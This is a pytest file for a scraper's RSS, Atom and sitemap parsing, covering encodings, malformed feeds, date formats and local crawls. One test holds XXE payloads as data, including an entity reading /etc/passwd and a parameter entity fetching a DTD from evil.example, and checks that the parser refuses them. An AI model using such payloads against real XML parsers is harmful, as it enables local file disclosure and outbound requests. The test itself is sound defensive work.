"""Feeds as real sites publish them: legacy encodings, raw HTML in descriptions, bare
ampersands, junk before the document, DTDs declaring HTML entities, one bad item, dates
in every zone and shape, xml:base, podcast links, a sitemap cut off inside ``<loc>``,
robots.txt with a byte-order mark. Bytes in (tests/fixtures/feeds/), URLs and dates out;
the last tests serve them from a real local server to a crawl.
"""

from __future__ import annotations

import sqlite3
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sites import LocalSite, article_html, rss_feed, sitemap_index, urlset

from scraper.cli import EXIT_OK, cli
from scraper.feeds import FeedError, parse_date, parse_feed, parse_sitemap, parse_xml, read_feed
from scraper.robots import RobotsRules

FIXTURES = Path(__file__).parent / "fixtures" / "feeds"
UTC = timezone.utc


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def urls(entries) -> list[str]:
    return [e.url for e in entries]


def at(*parts: int, offset: float = 0) -> datetime:
    """A wall-clock time in a zone ``offset`` hours east of UTC, as a UTC datetime."""
    return datetime(*parts, tzinfo=timezone(timedelta(hours=offset))).astimezone(UTC)


# -- 1. legacy encodings ----------------------------------------------------------------

@pytest.mark.parametrize("name,charset,expected", [
    ("shift_jis.xml", None, [("https://news.example.jp/記事/1001", at(2024, 11, 5, 9, 30, offset=9)),
                             ("https://news.example.jp/記事/1002", at(2024, 11, 5, 10, offset=9))]),
    ("gbk.xml", None, [("http://news.example.cn/新闻/2024/11/05/001.html", at(2024, 11, 5, 8, offset=8)),
                       ("http://news.example.cn/新闻/2024/11/05/002.html", at(2024, 11, 5, 9, 15, offset=8))]),
    ("euc_kr.xml", "euc-kr", [("https://news.example.kr/기사/501", at(2024, 11, 5, 7, offset=9)),
                              ("https://news.example.kr/기사/502", at(2024, 11, 5, 8, offset=9))]),
])
def test_cjk_feeds_are_read_in_their_encoding(name, charset, expected):
    feed = read_feed(fixture(name), "https://feeds.example/", charset=charset)
    # the non-ASCII paths come out right only when the bytes were decoded as what they are
    assert [(e.url, e.date) for e in feed.entries] == expected
    assert feed.problems == []  # well-formed in its encoding: read strictly, nothing mended


def test_the_http_charset_is_what_makes_a_feed_without_a_declaration_readable():
    data = fixture("euc_kr.xml")
    assert b"encoding=" not in data  # only the HTTP header says EUC-KR
    assert urls(parse_feed(data, "https://feeds.example/", charset="euc-kr"))[0] == "https://news.example.kr/기사/501"
    # without it the bytes are still read (detection), never lost
    assert len(parse_feed(data, "https://feeds.example/")) == 2


ITEM = "<item><title>{title}</title><link>https://intl.example/{path}</link></item>"


def encoded_feed(encoding: str, declared: str | None, title: str, path: str) -> bytes:
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>'
    return (f'{declaration}<rss version="2.0"><channel><title>t</title>'
            f"{ITEM.format(title=title, path=path)}</channel></rss>").encode(encoding)


@pytest.mark.parametrize("encoding,declared,charset,title,path", [
    ("gb18030", "GB18030", None, "广州日报", "新闻/1"),
    ("big5", "big5", None, "臺北新聞", "新聞/1"),
    ("euc_jp", "EUC-JP", None, "札幌の雪まつり", "記事/1"),
    ("shift_jis", None, "shift_jis", "横浜港", "記事/2"),
    ("cp1251", "utf-8", "windows-1251", "Новости", "новости/1"),   # the HTTP charset beats the declaration
    ("utf-8", "iso-8859-1", "iso-8859-1", "Zürich", "zürich"),     # valid UTF-8 beats a latin-1 label
    ("utf-8", "x-bogus", None, "Café", "café"),                     # an unknown label is ignored
    ("latin-1", "x-bogus", None, "Café au lait, crème brûlée", "caf%C3%A9"),
    ("utf-16-le", "utf-16", None, "Ελλάδα", "ελλάδα"),            # UTF-16 without a BOM
    ("utf-16-be", None, None, "Ελλάδα", "ελλάδα"),
    ("utf-32-le", None, None, "Ελλάδα", "ελλάδα"),
    ("cp037", "cp037", None, "EBCDIC", "ebcdic"),
])
def test_encodings_feeds_declare_or_leave_out(encoding, declared, charset, title, path):
    data = encoded_feed(encoding, declared, title, path)
    assert urls(parse_feed(data, "https://feeds.example/", charset=charset)) == [f"https://intl.example/{path}"]


# -- 2. raw HTML in text elements --------------------------------------------------------

def test_an_unclosed_br_or_img_does_not_swallow_the_items_after_it():
    feed = read_feed(fixture("raw_html.xml"), "https://coast.example/rss")
    assert urls(feed.entries) == [f"https://coast.example/news/harbour-{n}" for n in range(1, 7)]
    assert [e.date for e in feed.entries] == [at(2024, 11, 4, n) for n in range(1, 7)]
    assert len(feed.problems) == 1 and "read leniently" in feed.problems[0]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.sampled_from(
    ["text", "<br>", "<p>", "</p>", '<img src="a.jpg">', "&", "&nbsp;", "&copy;", "]]>", "<b>bold</b>", "<",
     "AT&T", "<![CDATA[x]]>", "&#169;", "\x0b", "ü"]), max_size=8), min_size=1, max_size=6))
def test_any_html_in_descriptions_keeps_every_item(descriptions):
    """Whatever a CMS pastes unescaped into descriptions, every item's link survives."""
    items = "".join(f"<item><title>Story {n}</title><description>{''.join(d)}</description>"
                    f"<link>https://any.example/{n}?a=1&b=2</link></item>" for n, d in enumerate(descriptions))
    data = f'<?xml version="1.0" encoding="utf-8"?><rss><channel><title>x</title>{items}</channel></rss>'.encode()
    assert urls(parse_feed(data, "https://any.example/")) == [
        f"https://any.example/{n}?a=1&b=2" for n in range(len(descriptions))]


# -- 3. bare ampersands -------------------------------------------------------------------

def test_bare_ampersands_in_links_stay_ampersands():
    assert urls(parse_feed(fixture("ampersands.xml"), "https://blog.example/")) == [
        "https://blog.example/view?a=1&b=2&c",
        "https://blog.example/a.php?id=1&lang=en",
        "https://blog.example/a.php?id=2&lang=de",
    ]
    atom = b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="/p?id=1&lang=en&x"/></entry></feed>'
    assert urls(parse_feed(atom, "https://blog.example/feed")) == ["https://blog.example/p?id=1&lang=en&x"]


# -- 4. one flaw must not sink the feed ---------------------------------------------------

def test_a_php_warning_before_the_declaration():
    feed = read_feed(fixture("php_warning.xml"), "https://blog.example/feed/")
    assert urls(feed.entries) == ["https://blog.example/2024/11/post-one/", "https://blog.example/2024/11/post-two/"]
    assert feed.entries[1].date == at(2024, 11, 4, 13)


def test_a_dtd_declaring_html_entities_is_read_and_nothing_is_expanded():
    feed = read_feed(fixture("dtd_entities.xml"), "https://coast.example/")
    assert urls(feed.entries) == ["https://coast.example/tides", "https://coast.example/wind"]
    assert feed.problems == ["its DTD declares entities: left unexpanded"]
    root = parse_xml(fixture("dtd_entities.xml"))
    # &nbsp; reads as the HTML character it names; the DTD's own entity (&site;) stays text
    assert root.find("channel/item/title").text == "Tides\u00a0today"
    assert root.find("channel/title").text == "&site; \u00a9 2024"


@pytest.mark.parametrize("subset", [
    '<!ENTITY a "x"><!ENTITY b "&a;&a;">',                         # an entity made of entities
    '<!ENTITY x SYSTEM "file:///etc/passwd">',                      # external (XXE)
    '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;',         # parameter entity
    '<!ENTITY a "x"><!ELEMENT rss ANY>',                            # more than plain entities
])
def test_dtds_that_could_expand_or_reach_out_are_still_refused(subset):
    data = f'<?xml version="1.0"?><!DOCTYPE rss [{subset}]><rss><channel><item><link>https://x.example/a</link>' \
           f'</item></channel></rss>'.encode()
    with pytest.raises(FeedError) as err:
        parse_feed(data, "https://x.example/")
    assert err.value.kind == "unsafe-xml"


def test_one_bad_item_is_skipped_with_a_note():
    feed = read_feed(fixture("bad_item.xml"), "https://mixed.example/")
    assert urls(feed.entries) == ["https://mixed.example/1", "https://mixed.example/2"]
    assert feed.problems == ["item 2 skipped: ValueError: Invalid IPv6 URL"]


def test_a_thousand_bad_items_make_ten_lines():
    items = "<item><link>http://[bad/</link></item>" * 1000 + "<item><link>https://ok.example/</link></item>"
    feed = read_feed(f"<rss><channel>{items}</channel></rss>".encode(), "https://ok.example/")
    assert urls(feed.entries) == ["https://ok.example/"]
    assert len(feed.problems) == 10 and feed.problems[-1] == "... and 991 more problems"


def test_truncated_and_empty_documents():
    cut = fixture("raw_html.xml")[:-200]  # cut inside the last item
    assert urls(parse_feed(cut, "https://coast.example/"))[:5] == [
        f"https://coast.example/news/harbour-{n}" for n in range(1, 6)]
    for data in (b"", b"   ", b"<?xml version='1.0'?>"):
        with pytest.raises(FeedError) as err:
            parse_feed(data, "https://x.example/")
        assert err.value.kind == "bad-xml"


# -- 5. dates -----------------------------------------------------------------------------

def test_dates_feeds_write():
    dates = {e.url.rsplit("/", 1)[1]: e.date for e in parse_feed(fixture("dates.xml"), "https://dates.example/")}
    assert dates == {
        "offset-colon": at(2024, 11, 4, 10, offset=2),
        "pacific": at(2024, 11, 4, 10, offset=-8),
        "cest": at(2024, 10, 4, 10, offset=2),
        "ist": at(2024, 11, 4, 10, offset=5.5),
        "sept": at(2024, 9, 11, 10),
        "no-time": at(2024, 11, 4),
        "extra-comma": at(2024, 11, 4, 10),
        "fallback": at(2024, 11, 4, 10, offset=-5),  # an unreadable pubDate does not hide dc:date
        "dcterms-modified": at(2024, 11, 4, 10, offset=1),
        "dcterms-created": at(2024, 11, 3),
    }


@pytest.mark.parametrize("text,expected", [
    # RFC 822 and what generators make of it
    ("Tue, 05 Nov 2024 09:30:00 +0900", at(2024, 11, 5, 9, 30, offset=9)),
    ("Tue, 05 Nov 2024 09:30:00 -03:30", at(2024, 11, 5, 9, 30, offset=-3.5)),
    ("Tue, 5 Nov 2024 09:30 GMT+2", at(2024, 11, 5, 9, 30, offset=2)),
    ("Tue, 05 Nov 24 09:30:00 EST", at(2024, 11, 5, 9, 30, offset=-5)),
    ("Tuesday, 05-Nov-2024 09:30:00 GMT", at(2024, 11, 5, 9, 30)),
    ("Nov 5, 2024 9:30 PM EDT", at(2024, 11, 5, 21, 30, offset=-4)),
    ("Tue Nov  5 09:30:00 2024", at(2024, 11, 5, 9, 30)),
    ("Tue Nov 05 2024 09:30:00 +0100", at(2024, 11, 5, 9, 30, offset=1)),
    ("05 November 2024 09:30 BST", at(2024, 11, 5, 9, 30, offset=1)),
    ("Tue, 05 Nov 2024 09:30:00 MET", at(2024, 11, 5, 9, 30, offset=1)),
    ("Tue, 05 Nov 2024 09:30:00 MEST", at(2024, 11, 5, 9, 30, offset=2)),
    ("Tue, 05 Nov 2024 09:30:00 AT", at(2024, 11, 5, 9, 30, offset=-4)),
    ("Tue, 05 Nov 2024 09:30:00 CT", at(2024, 11, 5, 9, 30, offset=-6)),
    ("Tue, 05 Nov 2024 09:30:00 MT", at(2024, 11, 5, 9, 30, offset=-7)),
    ("Tue, 05 Nov 2024 09:30:00 ET", at(2024, 11, 5, 9, 30, offset=-5)),
    ("Di, 05 Okt 2024 09:30:00 +0200", at(2024, 10, 5, 9, 30, offset=2)),
    ("Fri, 2024/11/08 08:19:53 EDT", at(2024, 11, 8, 8, 19, 53, offset=-4)),
    # W3C-DTF / ISO 8601, the same on every Python this project supports
    ("2024-11-05T09:30:00+02:00", at(2024, 11, 5, 9, 30, offset=2)),
    ("2024-11-05T09:30:00.123456789Z", datetime(2024, 11, 5, 9, 30, 0, 123456, tzinfo=UTC)),
    ("2024-11-05T09:30:00+0200", at(2024, 11, 5, 9, 30, offset=2)),
    ("2024-11-05T09:30+02", at(2024, 11, 5, 9, 30, offset=2)),
    ("2024-11-05 09:30:00 -05:00", at(2024, 11, 5, 9, 30, offset=-5)),
    ("2024-11-05T09:30:00.5", datetime(2024, 11, 5, 9, 30, 0, 500000, tzinfo=UTC)),
    ("20241105T093000Z", at(2024, 11, 5, 9, 30)),
    ("20241105", at(2024, 11, 5)),
    ("2024-310", at(2024, 11, 5)),
    ("2024-11", at(2024, 11, 1)),
    ("2024/11/05", at(2024, 11, 5)),
    ("2024-11-05T24:00:00Z", at(2024, 11, 6)),
    # not dates
    ("2024-13-05", None), ("2024-11-05T25:00:00Z", None), ("2024-11-05T09:30:00+02:99", None),
    ("Tue, 31 Nov 2024 09:30:00 GMT", None), ("Tue, 05 Nov 2024 1:2:3:4 GMT", None),
    ("Tue, 05 Nov 2024 09:30:00 +zz:00", None), ("soon", None), ("", None), ("2024-11-05-01", None),
])
def test_date_forms(text, expected):
    assert parse_date(text) == expected


def test_atom_03_and_cdf_dates_and_link():
    atom03 = b'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>' \
             b'<link rel="alternate" type="text/html" href="https://old.example/1"/>' \
             b"<created>2004-01-01T10:00:00+02:00</created></entry></feed>"
    assert [(e.url, e.date) for e in parse_feed(atom03, "https://old.example/")] == [
        ("https://old.example/1", at(2004, 1, 1, 10, offset=2))]
    cdf = b'<CHANNEL HREF="https://old.example/"><ITEM HREF="https://old.example/2" LASTMOD="2004-04-06T23:05:43-05:00">' \
          b"<TITLE>x</TITLE></ITEM></CHANNEL>"
    assert [(e.url, e.date) for e in parse_feed(cdf, "https://old.example/")] == [
        ("https://old.example/2", at(2004, 4, 6, 23, 5, 43, offset=-5))]


# -- 6. xml:base ----------------------------------------------------------------------------

def test_xml_base_on_the_feed_the_entry_and_the_link():
    entries = parse_feed(fixture("xml_base.xml"), "https://feeds.example/atom.xml")
    assert urls(entries) == ["https://cdn.example/blog/2024/11/first-post", "https://cdn.example/about/second",
                             "https://other.example/x/third"]
    assert entries[1].date == at(2024, 11, 4, 11, offset=1)


# -- 7. the rarer link shapes -----------------------------------------------------------------

def test_podcast_enclosures_are_never_the_article():
    assert urls(read_feed(fixture("podcast.xml"), "https://pod.example/feed").items) == [
        "https://pod.example/episodes/1",
        "https://pod.example/episodes/2",
        "",  # a guid that is not a permalink is not an address
    ]


def test_links_as_text_ids_in_capitals_and_the_alternate_among_others():
    assert urls(parse_feed(fixture("atom_links.xml"), "https://odd.example/")) == [
        "https://odd.example/as-text", "HTTP://odd.example/by-id", "https://odd.example/3"]


def test_a_sitemap_cut_inside_loc_gives_no_junk_url():
    sitemap = parse_sitemap(fixture("cut_sitemap.xml"), "https://coast.example/sitemap.xml")
    assert [(e.url, e.date) for e in sitemap.urls] == [
        ("https://coast.example/news/one", at(2024, 11, 4, 10, offset=2)),
        ("https://coast.example/news/two", at(2024, 11, 4)),
    ]
    index = b'<sitemapindex><sitemap><loc>https://coast.example/s1.xml</loc>' \
            b'<lastmod>2024-11-04T23:30:00-05:00</lastmod></sitemap></sitemapindex>'
    [child] = parse_sitemap(index, "https://coast.example/").sitemaps
    assert child.date == at(2024, 11, 5, 4, 30)  # the offset is read: not a day too early


def test_robots_txt_with_a_byte_order_mark_keeps_its_first_line():
    rules = RobotsRules.from_text(fixture("robots_bom.txt").decode("utf-8", "replace"), "scraper")
    assert rules.sitemaps == ["https://coast.example/sitemap.xml"]
    assert rules.allowed("https://coast.example/private/x") is False


# -- in a crawl ---------------------------------------------------------------------------------

def test_a_crawl_reads_legacy_encodings_broken_feeds_and_cut_sitemaps(tmp_path):
    db = tmp_path / "archive.db"
    with LocalSite() as site:
        host = site.host("h")
        base = host.url("/")
        host.add("/robots.txt", fixture("robots_bom.txt").replace(b"https://coast.example/", base.encode()),
                 content_type="text/plain")
        korean = ["기사/501", "기사/502"]
        for path in korean:
            host.add("/" + quote(path), article_html(f"Korean story {path}", seed=path))
        for n in (1, 2, 3, 4):
            host.add(f"/news/{n}", article_html(f"Harbour story {n}", seed=f"s{n}"))
        # EUC-KR with no declaration: the HTTP charset is the only hint
        host.add("/ko.xml", fixture("euc_kr.xml").replace(b"https://news.example.kr/", base.encode()),
                 content_type="application/rss+xml; charset=euc-kr")
        # raw HTML swallowing items, a bare &, one item that is no URL at all
        host.add("/broken.xml", (
            f'<?xml version="1.0" encoding="utf-8"?><rss><channel>'
            f"<item><link>{base}news/1</link><description>one<br>two</description></item>"
            f"<item><link>http://[bad/</link></item>"
            f"<item><link>{base}news/2?a=1&b=2</link></item></channel></rss>").encode(),
            content_type="application/rss+xml")
        host.add("/news/2", article_html("Harbour story 2b", seed="s2b"))
        host.add("/sitemap.xml", f'<urlset><url><loc>{base}news/3</loc></url><url><loc>{base}news/4</loc></url>'
                                 f"<url><loc>{base}news/juNK".encode(), content_type="application/xml")
        result = CliRunner().invoke(cli, [
            "crawl", "--db", str(db), "--delay", "0", "--workers", "1", "--processes", "0",
            "--feed", host.url("/ko.xml"), "--feed", host.url("/broken.xml"), "--sitemap", "auto"])
        requested = {hit.path for hit in site.hits("h")}
    assert result.exit_code == EXIT_OK, result.output
    assert {"/" + quote(p) for p in korean} <= requested   # decoded as EUC-KR, not mojibake
    assert {"/news/1", "/news/2?a=1&b=2", "/news/3", "/news/4", "/sitemap.xml"} <= requested
    assert not any("juNK" in path for path in requested)  # the cut-off <loc> was not taken
    assert "item 2 skipped: ValueError: Invalid IPv6 URL" in result.stderr
    assert "read leniently" in result.stderr
    with sqlite3.connect(db) as conn:
        titles = {row[0] for row in conn.execute("SELECT title FROM articles")}
    assert {"Korean story 기사/501", "Korean story 기사/502", "Harbour story 2b", "Harbour story 3"} <= titles


def test_since_keeps_what_its_zone_puts_after_the_edge(tmp_path):
    """23:30 in New York on the 4th is 04:30 UTC on the 5th: after a --since of 03:00 UTC.
    Read as UTC (the offset ignored) it was before, and the story — or a whole child
    sitemap behind an index entry — was skipped."""
    late, early = "Mon, 04 Nov 2024 23:30:00 -05:00", "Mon, 04 Nov 2024 20:00:00 -05:00"
    with LocalSite() as site:
        host = site.host("h")
        host.add("/robots.txt", "", content_type="text/plain")
        for path in ("/late", "/early", "/sitemap-late"):
            host.add(path, article_html(f"Story {path}", seed=path))
        host.add("/feed.xml", rss_feed([(host.url("/late"), late), (host.url("/early"), early)]),
                 content_type="application/rss+xml")
        host.add("/index.xml", sitemap_index([(host.url("/child-late.xml"), late), (host.url("/child-early.xml"), early)]),
                 content_type="application/xml")
        host.add("/child-late.xml", urlset([(host.url("/sitemap-late"), None)]), content_type="application/xml")
        host.add("/child-early.xml", urlset([(host.url("/early"), None)]), content_type="application/xml")
        result = CliRunner().invoke(cli, [
            "crawl", "--db", str(tmp_path / "archive.db"), "--delay", "0", "--workers", "1", "--processes", "0",
            "--since", "2024-11-05T03:00:00Z", "--feed", host.url("/feed.xml"), "--sitemap", host.url("/index.xml")])
        requested = {hit.path for hit in site.hits("h")}
    assert result.exit_code == EXIT_OK, result.output
    assert {"/late", "/child-late.xml", "/sitemap-late"} <= requested
    assert not requested & {"/early", "/child-early.xml"}
